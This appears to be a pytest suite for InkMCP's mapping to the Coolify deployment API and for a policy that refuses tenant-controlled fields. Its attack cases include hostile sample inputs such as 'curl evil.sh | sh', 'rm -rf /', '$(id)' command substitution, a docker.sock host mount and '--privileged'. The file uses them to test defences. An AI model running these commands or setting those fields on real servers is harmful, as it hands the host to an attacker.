"""Service type x mode → the exact Coolify bodies, checked against Coolify's published spec and InkMCP's policy;
and the policy refusing every tenant-controlled field that would give a tenant the run server (review
infra-2026-11-30 findings 2 and 6), tried one by one."""

from __future__ import annotations

import base64
import json
import os
import subprocess
from pathlib import Path

import httpx
import pytest

from inkmcp.build.plan import BuildPlan, Mode, ProcessSpec, ServiceType, Stack
from inkmcp.coolify.spec import CoolifySpec
from inkmcp.providers.compute.base import Resources, ServiceKey
from inkmcp.providers.compute.coolify import mapping, policy
from inkmcp.providers.compute.coolify.mapping import AppSpec, MappingSettings, PlacedServer, Process

COMMIT = "0123456789abcdef0123456789abcdef01234567"
SERVER = PlacedServer(uuid="srv1aaaaaaaaaaaaaaaaaaaa", wildcard_base="s1.apps.example.com")
KEY = ServiceKey(account_id="acct", project_id="p1", service_id="svc-1", project_name="shop", service_name="api")
SETTINGS = MappingSettings()
REPO = "https://git.example.com/acme/shop.git"
AUTH = "Bearer 1|token"


def plan(**kw: object) -> BuildPlan:
    base: dict[str, object] = {"stack": Stack.python, "source": "procfile", "processes": (
        ProcessSpec(name="web", command="gunicorn app:app", routed=True),
        ProcessSpec(name="worker", command="python worker.py", routed=False))}
    return BuildPlan(**(base | kw))  # type: ignore[arg-type]


def spec_of(service_type: ServiceType, mode: Mode, process: Process, p: BuildPlan | None = None,
            **kw: object) -> AppSpec:  # fmt: skip
    return AppSpec(key=KEY, process=process, service_type=service_type, mode=mode, plan=p or plan(), commit=COMMIT,
                   resources=Resources(memory_mb=768, cpus=1.5), server=SERVER, repo_url=REPO, **kw)  # type: ignore[arg-type]


WEB = Process("web", "gunicorn app:app", True)
WORKER = Process("worker", "python worker.py", False)
COMMON_CREATE = {"project_uuid": "proj1aaaaaaaaaaaaaaaaaaa", "server_uuid": SERVER.uuid,
                 "environment_name": "production", "environment_uuid": "env1aaaaaaaaaaaaaaaaaaaa",
                 "autogenerate_domain": False, "instant_deploy": False, "is_auto_deploy_enabled": False,
                 "is_preview_deployments_enabled": False}  # fmt: skip
HEALTH_ON = {"health_check_enabled": True, "health_check_path": "/", "health_check_port": "3000",
             "health_check_interval": 2, "health_check_timeout": 5, "health_check_retries": 30,
             "health_check_start_period": 5}  # fmt: skip
HEALTH_STATIC = {**HEALTH_ON, "health_check_port": "80"}  # Coolify probes port 80 for static packs anyway
HEALTH_OFF = {"health_check_enabled": False}
SOURCE = {"git_repository": REPO, "git_branch": "main", "git_commit_sha": COMMIT, "use_build_server": True,
          "base_directory": "/"}  # fmt: skip

# Every type x mode, web and worker: the update body (what each release PATCHes) exactly.
CASES = [
    (ServiceType.webapp, Mode.persistent, WEB, {
        **SOURCE, **HEALTH_ON, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
        "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
        "limits_cpus": "1.5", "limits_memory_reservation": "768m", "domains": "https://api-shop.s1.apps.example.com"}),
    (ServiceType.webapp, Mode.persistent, WORKER, {
        **SOURCE, **HEALTH_OFF, "build_pack": "nixpacks", "start_command": "python worker.py", "ports_exposes": "3000",
        "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
        "limits_cpus": "1.5", "limits_memory_reservation": "768m", "domains": ""}),
    (ServiceType.webapp, Mode.on_demand, WEB, {
        **SOURCE, **HEALTH_ON, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
        "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
        "limits_cpus": "1.5", "domains": "", "is_consistent_container_name_enabled": True}),
    (ServiceType.backend, Mode.persistent, WEB, {
        **SOURCE, **HEALTH_OFF, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
        "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
        "limits_cpus": "1.5", "limits_memory_reservation": "768m", "domains": "https://api-shop.s1.apps.example.com"}),
    (ServiceType.backend, Mode.on_demand, WORKER, {
        **SOURCE, **HEALTH_OFF, "build_pack": "nixpacks", "start_command": "python worker.py", "ports_exposes": "3000",
        "pre_deployment_command": "", "limits_memory": "768m", "limits_memory_swap": "768m",
        "limits_cpus": "1.5", "domains": ""}),
    (ServiceType.backend, Mode.static, WEB, {
        **SOURCE, **HEALTH_OFF, "build_pack": "nixpacks", "start_command": "gunicorn app:app", "ports_exposes": "3000",
        "pre_deployment_command": "", "limits_memory": "64m", "limits_memory_swap": "64m", "limits_cpus": "0.25",
        "domains": "https://api-shop.s1.apps.example.com"}),
    (ServiceType.webapp_static, Mode.static, Process("web", None, True), {
        **SOURCE, **HEALTH_STATIC, "build_pack": "static", "is_static": True,
        "publish_directory": "/dist", "ports_exposes": "80", "limits_memory": "64m", "limits_memory_swap": "64m",
        "limits_cpus": "0.25", "domains": "https://api-shop.s1.apps.example.com"}),
    (ServiceType.webapp_static, Mode.on_demand, Process("web", None, True), {
        **SOURCE, **HEALTH_STATIC, "build_pack": "static", "is_static": True,
        "publish_directory": "/dist", "ports_exposes": "80", "limits_memory": "768m", "limits_memory_swap": "768m",
        "limits_cpus": "1.5", "domains": "", "is_consistent_container_name_enabled": True}),
    (ServiceType.webapp_static, Mode.persistent, Process("web", None, True), {
        **SOURCE, **HEALTH_STATIC, "build_pack": "static", "is_static": True,
        "publish_directory": "/dist", "ports_exposes": "80", "limits_memory": "768m", "limits_memory_swap": "768m",
        "limits_cpus": "1.5", "limits_memory_reservation": "768m",
        "domains": "https://api-shop.s1.apps.example.com"}),
]


def case_plan(service_type: ServiceType) -> BuildPlan:
    if service_type == ServiceType.webapp_static:
        return BuildPlan(stack=Stack.static, source="detected", static_dir="dist")
    return plan()


@pytest.mark.parametrize(("service_type", "mode", "process", "expected"), CASES,
                         ids=[f"{t.value}-{m.value}-{p.name}" for t, m, p, _ in CASES])
def test_update_body_per_type_and_mode_is_exact_and_valid(
    spec: CoolifySpec, service_type: ServiceType, mode: Mode, process: Process, expected: dict[str, object]
) -> None:
    s = spec_of(service_type, mode, process, case_plan(service_type))
    body = mapping.update_body(s, SETTINGS)
    assert body == expected
    assert spec.request_problems("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", body=body, authorization=AUTH) == []
    policy.check_request("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", body)

    create = mapping.create_body(s, COMMON_CREATE["project_uuid"], COMMON_CREATE["environment_uuid"], SETTINGS)
    expected_create = {**COMMON_CREATE, "name": f"svc-1-{process.name}",
                       "description": f"InkMCP api.shop process {process.name}",
                       **{k: v for k, v in expected.items()
                          if k not in ("domains", "is_consistent_container_name_enabled")}}  # fmt: skip
    if service_type == ServiceType.webapp_static:
        expected_create["static_image"] = "nginx:alpine"
    if not expected_create.get("pre_deployment_command"):
        expected_create.pop("pre_deployment_command", None)
    assert create == expected_create
    assert spec.request_problems("POST", "/applications/public", body=create, authorization=AUTH) == []
    policy.check_request("POST", "/applications/public", create)

    # a release's create carries the routing too (issue 8: no settings PATCH after it), every field of the PATCH
    released = mapping.release_create_body(s, COMMON_CREATE["project_uuid"], COMMON_CREATE["environment_uuid"],
                                           SETTINGS)  # fmt: skip
    assert released == {**expected_create, **{k: v for k, v in expected.items()
                                              if k in ("domains", "is_consistent_container_name_enabled")}}
    assert mapping.covers(released, body)
    routed = bool(body["domains"]) or "is_consistent_container_name_enabled" in body
    assert mapping.covers(create, body) is not routed  # the plain create leaves a routed process's PATCH to do
    assert spec.request_problems("POST", "/applications/public", body=released, authorization=AUTH) == []
    policy.check_request("POST", "/applications/public", released)

    labels = mapping.labels_body(s)
    if mode == Mode.on_demand:
        assert labels is not None
        decoded = dict(line.split("=", 1) for line in base64.b64decode(labels["custom_labels"]).decode().splitlines())
        assert decoded == {"inkmcp.managed": "true", "inkmcp.project": "p1", "inkmcp.service": "svc-1",
                           "inkmcp.process": process.name, "sablier.enable": "true", "sablier.group": "inkmcp-svc-1"}
        assert spec.request_problems("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", body=labels,
                                     authorization=AUTH) == []  # fmt: skip
        policy.check_request("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", labels)
    else:
        assert labels is None  # persistent/static: Coolify's generated Traefik labels route the domains


def test_release_runs_in_the_new_container_of_the_routed_process_and_commands_are_made_shell_safe(
        spec: CoolifySpec) -> None:  # fmt: skip
    """Never Coolify's pre-deployment command (old container, skipped on a first deploy): the routed process's start
    command runs the release first, guarded by INKMCP_RELEASE, then execs the process's own command."""
    p = plan(release_command="python manage.py migrate", build_command="npm run build; echo done >&2")
    processes = {x.name: x for x in mapping.processes(ServiceType.webapp, p)}
    assert processes["web"].release and not processes["worker"].release
    web = mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, processes["web"], p), SETTINGS)
    worker = mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, processes["worker"], p), SETTINGS)
    assert web["pre_deployment_command"] == "" and worker["pre_deployment_command"] == ""
    assert web["start_command"] == (f"sh -c '{mapping.RELEASE_GUARD}' 'gunicorn app:app' "
                                    "'python manage.py migrate'")
    assert worker["start_command"] == "python worker.py"
    # the release's process gets a longer health window (a migration takes its time): 5 + 90 x 2 s
    assert web["health_check_retries"] == 90 and mapping.health_window(web) == mapping.RELEASE_TIMEOUT == 185
    assert len(web["start_command"]) <= mapping.MAX_COMMAND and mapping.SHELL_SAFE.match(web["start_command"])
    # `;` and `>` fail Coolify's shell-safe rule: sent wrapped, quotes escaped, and the wrapped form passes it
    assert web["build_command"] == "sh -c 'npm run build; echo done >&2'"
    quoted = mapping.shell_safe("echo 'it''s' | tr a b", "build_command")
    assert quoted == "sh -c 'echo '\"'\"'it'\"'\"''\"'\"'s'\"'\"' | tr a b'"
    assert mapping.SHELL_SAFE.match(quoted)
    with pytest.raises(mapping.TenantInputError, match="multi-line"):
        mapping.shell_safe("make\nmake install", "build_command")
    assert spec.request_problems("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", body=web, authorization=AUTH) == []
    policy.check_request("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", web)
    # a worker-only service: the release goes with its first process
    only = plan(release_command="./migrate", processes=(ProcessSpec(name="jobs", command="python jobs.py",
                                                                    routed=False),))  # fmt: skip
    assert [x.release for x in mapping.processes(ServiceType.backend, only)] == [True]
    with pytest.raises(mapping.TenantInputError, match=r"release_command.*1000"):
        mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, processes["web"],
                                    plan(release_command="echo " + "x" * 900)), SETTINGS)


def _run_start_command(command: str, env: dict[str, str], cwd: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["sh", "-c", command], env={"PATH": os.environ["PATH"], **env}, cwd=cwd,
                          capture_output=True, text=True, timeout=30)  # fmt: skip


def test_the_release_guard_runs_the_release_once_per_container_and_a_failure_stops_the_start(tmp_path: Path) -> None:
    """The guard as a shell really runs it: the release first, then the process's command with its own quoting;
    a restart of the same container (its /tmp kept) skips it; without INKMCP_RELEASE (an env change's new
    container) it never runs; a failing release exits non-zero before the command, and again on every restart."""
    web = Process("web", "echo \"serving $PORT\" 'quoted' >> out.txt", True, True)
    command = mapping.release_start_command("echo migrated >> out.txt; echo 'it''s'", web)
    assert mapping.SHELL_SAFE.match(command)
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    env = {"INKMCP_RELEASE": "dep-1", "TMPDIR": str(tmp), "PORT": "8080"}
    first = _run_start_command(command, env, str(tmp_path))
    assert first.returncode == 0, first.stderr
    assert mapping.RELEASE_STARTED in first.stdout and mapping.RELEASE_FINISHED in first.stdout
    assert "its" in first.stdout
    assert (tmp_path / "out.txt").read_text() == "migrated\nserving 8080 quoted\n"
    again = _run_start_command(command, env, str(tmp_path))  # the same container restarted
    assert again.returncode == 0 and mapping.RELEASE_STARTED not in again.stdout
    assert (tmp_path / "out.txt").read_text() == "migrated\nserving 8080 quoted\nserving 8080 quoted\n"
    fresh = tmp_path / "tmp2"
    fresh.mkdir()
    _run_start_command(command, {**env, "INKMCP_RELEASE": "", "TMPDIR": str(fresh)}, str(tmp_path))
    assert (tmp_path / "out.txt").read_text().count("migrated") == 1  # env change: a new container, no release

    broken = mapping.release_start_command("echo broke >&2; exit 3", web)
    failed = _run_start_command(broken, {**env, "INKMCP_RELEASE": "dep-2"}, str(tmp_path))
    assert failed.returncode == 3 and f"{mapping.RELEASE_FAILED} with exit code 3" in failed.stderr
    assert "broke" in failed.stderr
    restarted = _run_start_command(broken, {**env, "INKMCP_RELEASE": "dep-2"}, str(tmp_path))
    assert restarted.returncode == 1 and "broke" not in restarted.stderr and mapping.RELEASE_FAILED in restarted.stderr
    assert (tmp_path / "out.txt").read_text().count("serving") == 3  # the command never ran after a failure


def test_dockerfile_repo_builds_with_the_dockerfile_pack(spec: CoolifySpec) -> None:
    body = mapping.update_body(spec_of(ServiceType.backend, Mode.persistent, WEB, dockerfile_location="Dockerfile"),
                               SETTINGS)  # fmt: skip
    assert body["build_pack"] == "dockerfile" and body["dockerfile_location"] == "/Dockerfile"
    assert "start_command" not in body
    policy.check_request("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa", body)


def test_custom_domains_route_the_web_process_and_return_the_dns_record() -> None:
    s = spec_of(ServiceType.webapp, Mode.persistent, WEB, domains=("www.acme.org", "https://Shop.Acme.org"))
    body = mapping.update_body(s, SETTINGS)
    assert body["domains"] == "https://api-shop.s1.apps.example.com,https://www.acme.org,https://shop.acme.org"
    hosts = mapping.custom_domains(s.domains, SERVER, SETTINGS)
    assert mapping.dns_records(KEY, SERVER, hosts) == [
        {"name": "www.acme.org", "type": "CNAME", "value": "api-shop.s1.apps.example.com"},
        {"name": "shop.acme.org", "type": "CNAME", "value": "api-shop.s1.apps.example.com"}]
    assert mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, WORKER, domains=("www.acme.org",)),
                               SETTINGS)["domains"] == ""  # fmt: skip


@pytest.mark.parametrize("domain", [
    "other-project.s1.apps.example.com",  # another service's host on the same server
    "s1.apps.example.com", "x.apps.example.com", "acme.org:8443", "https://acme.org/admin", "http://a b",
    "user:pw@acme.org",
])  # fmt: skip
def test_a_tenant_cannot_take_a_platform_host_or_smuggle_a_port_or_path(domain: str) -> None:
    settings = MappingSettings(reserved_domains=("apps.example.com",))
    with pytest.raises(mapping.TenantInputError, match="domains"):
        mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, WEB, domains=(domain,)), settings)


def test_long_names_make_a_valid_dns_label() -> None:
    key = KEY.model_copy(update={"service_name": "a" * 40, "project_name": "b" * 40})
    host = mapping.hostname(key, SERVER)
    label = host.split(".")[0]
    assert len(label) <= 63 and host.endswith(".s1.apps.example.com")
    assert mapping.hostname(key, SERVER) == host  # stable


def test_env_body_is_literal_and_refuses_names_coolify_or_inkmcp_set(spec: CoolifySpec) -> None:
    body = mapping.env_body({"DATABASE_URL": "postgres://u:p@h/db", "PEM": "a\nb"},
                            internal={"INKMCP_DEPLOYMENT": "d1", "PORT": "3000"})  # fmt: skip
    assert body == {"data": [
        {"key": "DATABASE_URL", "value": "postgres://u:p@h/db", "is_preview": False, "is_literal": True,
         "is_multiline": False},
        {"key": "PEM", "value": "a\nb", "is_preview": False, "is_literal": True, "is_multiline": True},
        {"key": "INKMCP_DEPLOYMENT", "value": "d1", "is_preview": False, "is_literal": True, "is_multiline": False},
        {"key": "PORT", "value": "3000", "is_preview": False, "is_literal": True, "is_multiline": False}]}
    assert spec.request_problems("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa/envs/bulk", body=body,
                                 authorization=AUTH) == []  # fmt: skip
    policy.check_request("PATCH", "/applications/appaaaaaaaaaaaaaaaaaaaaa/envs/bulk", body)
    for bad in ("COOLIFY_FQDN", "SOURCE_COMMIT", "SERVICE_FQDN_API", "INKMCP_DEPLOYMENT", "1X", "A-B"):
        with pytest.raises(mapping.TenantInputError, match=bad):
            mapping.env_body({bad: "x"}, internal={})


def test_sablier_router_routes_the_host_through_sablier_to_the_app() -> None:
    s = spec_of(ServiceType.webapp, Mode.on_demand, WEB, domains=("www.acme.org",))
    doc = mapping.sablier_router(s, "appaaaaaaaaaaaaaaaaaaaaa", SETTINGS)
    router = doc["http"]["routers"]["inkmcp-appaaaaaaaaaaaaaaaaaaaaa"]
    assert router["rule"] == "Host(`api-shop.s1.apps.example.com`) || Host(`www.acme.org`)"
    assert router["middlewares"] == ["inkmcp-appaaaaaaaaaaaaaaaaaaaaa-sablier"]
    sablier = doc["http"]["middlewares"]["inkmcp-appaaaaaaaaaaaaaaaaaaaaa-sablier"]["plugin"]["sablier"]
    assert sablier["group"] == mapping.labels(s)["sablier.group"] and sablier["sessionDuration"] == "10m"
    assert sablier["blocking"] == {"timeout": "1m"} and "dynamic" not in sablier  # API clients get the app's answer
    servers = doc["http"]["services"]["inkmcp-appaaaaaaaaaaaaaaaaaaaaa"]["loadBalancer"]["servers"]
    assert servers == [{"url": "http://appaaaaaaaaaaaaaaaaaaaaa:3000"}]


# -- the policy, attacked ----------------------------------------------------------------------------------------

APP = "/applications/appaaaaaaaaaaaaaaaaaaaaa"
ATTACKS = [
    ("PATCH", APP, {"custom_docker_run_options": "--privileged"}, "custom_docker_run_options"),
    ("PATCH", APP, {"custom_internal_name": "coolify-proxy"}, "custom_internal_name"),
    ("PATCH", APP, {"is_consistent_container_name_enabled": "coolify-proxy"}, "is_consistent_container_name_enabled"),
    ("PATCH", APP, {"custom_network_aliases": "coolify-db"}, "custom_network_aliases"),
    ("PATCH", APP, {"ports_mappings": "22:22"}, "ports_mappings"),
    ("PATCH", APP, {"build_pack": "dockercompose"}, "build_pack"),
    ("PATCH", APP, {"use_build_server": False}, "use_build_server"),
    ("PATCH", APP, {"instant_deploy": True}, "instant_deploy"),
    ("PATCH", APP, {"custom_labels": policy.labels_text({"traefik.http.routers.x.rule": "Host(`victim.io`)"})},
     "traefik.http.routers.x.rule"),
    ("PATCH", APP, {"custom_labels": policy.labels_text({"sablier.group": "other tenant"})}, "sablier.group"),
    ("PATCH", APP, {"custom_labels": "not base64!"}, "custom_labels"),
    ("PATCH", APP, {"limits_memory": "0"}, "limits_memory"),
    ("PATCH", APP, {"limits_cpus": "64"}, "limits_cpus"),
    ("PATCH", APP, {"base_directory": "/../../etc"}, "base_directory"),
    ("PATCH", APP, {"git_repository": "file:///etc"}, "git_repository"),
    ("PATCH", APP, {"git_commit_sha": "HEAD"}, "git_commit_sha"),
    # a final newline: `$` alone admits one (re.match), so every anchored rule ends in \Z
    ("PATCH", APP, {"git_commit_sha": "0123abcd\n"}, "git_commit_sha"),
    ("PATCH", APP, {"git_branch": "main\n"}, "git_branch"),
    ("PATCH", APP, {"health_check_path": "/health\n"}, "health_check_path"),
    ("PATCH", APP, {"limits_memory": "512m\n"}, "limits_memory"),
    ("PATCH", APP, {"domains": "https://victim.io:8443"}, "domains"),
    ("PATCH", APP, {"start_command": "run\nrm -rf /"}, "start_command"),
    ("PATCH", APP, {"pre_deployment_command": "curl evil.sh | sh"}, "pre_deployment_command"),
    ("PATCH", APP, {"health_check_retries": 100000}, "health_check_retries"),
    ("PATCH", APP, {"health_check_path": "/$(id)"}, "health_check_path"),
    ("PATCH", APP, {"health_check_host": "10.0.0.1"}, "health_check_host"),
    ("PATCH", APP, {"dockerfile": base64.b64encode(b"FROM x").decode()}, "dockerfile"),
    ("POST", "/applications/public", {"project_uuid": "p", "tags": ["all"]}, "tags"),
    ("POST", f"{APP}/storages", {"type": "persistent", "name": "s", "mount_path": "/s",
                                 "host_path": "/var/run/docker.sock"}, "operation"),
    ("POST", f"{APP}/storages", {"type": "file", "mount_path": "/etc/x", "content": "x"}, "operation"),
    ("POST", f"{APP}/restart", None, "operation"),
    ("POST", "/applications/dockerimage", {"docker_registry_image_name": "x"}, "operation"),
    ("POST", "/services", {"docker_compose_raw": "eA=="}, "operation"),
    ("PATCH", f"{APP}/envs/bulk", {"data": [{"key": "A", "value": "1", "is_preview": True}]}, "A"),
    ("PATCH", f"{APP}/envs/bulk", {"data": [{"key": "A", "value": "1", "is_buildtime": True}]}, "is_buildtime"),
]


@pytest.mark.parametrize(("method", "path", "body", "field"), ATTACKS, ids=[a[3] + "-" + a[1].split("/")[-1]
                                                                           for a in ATTACKS])
def test_policy_refuses_each_tenant_controlled_field(method: str, path: str, body: object, field: str) -> None:
    with pytest.raises(policy.PolicyViolation) as refused:
        policy.check_request(method, path, body)
    assert refused.value.field == field, refused.value
    assert "refused by InkMCP's Coolify policy" in str(refused.value)


def test_deploy_only_one_application_by_uuid() -> None:
    policy.check_request("POST", "/deploy", None, {"uuid": "appaaaaaaaaaaaaaaaaaaaaa"})
    for query in ({"tag": "prod"}, {"uuid": "a,b"}, {"uuid": "appaaaaaaaaaaaaaaaaaaaaa", "docker_tag": "x"}, {}):
        with pytest.raises(policy.PolicyViolation):
            policy.check_request("POST", "/deploy", None, query)


async def test_policy_transport_stops_a_forbidden_request_before_it_leaves() -> None:
    """On the wire: the inner transport (standing for Coolify) never sees a refused request."""
    seen: list[str] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(f"{request.method} {request.url.path}")
        return httpx.Response(200, json={"uuid": "appaaaaaaaaaaaaaaaaaaaaa"})

    transport = policy.PolicyTransport(httpx.MockTransport(handler))
    async with httpx.AsyncClient(transport=transport, base_url="http://10.0.1.10:8000/api/v1") as http:
        ok = await http.patch(APP, json={"limits_cpus": "1"})
        assert ok.status_code == 200
        with pytest.raises(policy.PolicyViolation, match="custom_internal_name"):
            await http.patch(APP, json={"custom_internal_name": "coolify-proxy"})
        with pytest.raises(policy.PolicyViolation, match="operation"):
            await http.post(f"{APP}/storages", content=json.dumps({"host_path": "/"}))
    assert seen == [f"PATCH /api/v1{APP}"]


def test_a_long_refused_command_is_wrapped_without_catastrophic_backtracking() -> None:
    """Coolify's pattern, used as written, takes seconds (exponential) to refuse a 50-character command with a
    `;`: the possessive form answers at once and accepts the same strings."""
    import time

    command = "echo compile error: missing colon and some more words to make it long >&2; exit 2"
    started = time.monotonic()
    assert mapping.shell_safe(command, "build_command") == f"sh -c '{command}'"
    assert time.monotonic() - started < 0.1
    for ok in ("exec /usr/bin/python3 web.py", "npm run build && npm test", 'echo "hi there"', "a || b"):
        assert mapping.SHELL_SAFE.match(ok), ok
    for bad in ("a; b", "a | b", "echo $HOME", "a > b", "echo `id`"):
        assert not mapping.SHELL_SAFE.match(bad), bad


def test_a_field_an_earlier_release_set_is_cleared_with_an_empty_string() -> None:
    with_build = mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, WEB, plan(build_command="make")),
                                     SETTINGS)  # fmt: skip
    without = mapping.update_body(spec_of(ServiceType.webapp, Mode.persistent, WEB), SETTINGS)
    assert "build_command" not in without
    cleared = mapping.clearing(without, {k for k, v in with_build.items() if v})
    assert cleared == {**without, "build_command": ""}
    assert mapping.clearing(without, set()) == without
    policy.check_request("PATCH", APP, cleared)


def test_the_policy_allows_exactly_the_health_check_fields_the_mapping_sends(spec: CoolifySpec) -> None:
    """A health field InkMCP does not send (host, method, scheme, cmd checks) stays refused: adding one takes a change
    to both, reviewed together."""
    on = mapping.health_fields(spec_of(ServiceType.webapp, Mode.persistent, WEB))
    off = mapping.health_fields(spec_of(ServiceType.backend, Mode.persistent, WEB))
    allowed = {f for f in policy.CREATE_FIELDS if f.startswith("health_check_")}
    assert set(on) == allowed == {f for f in policy.UPDATE_FIELDS if f.startswith("health_check_")}
    assert off == {"health_check_enabled": False}
    assert mapping.health_fields(spec_of(ServiceType.webapp, Mode.persistent, WORKER)) == off  # no port to ask
    assert spec.request_problems("PATCH", APP, body=on, authorization=AUTH) == []
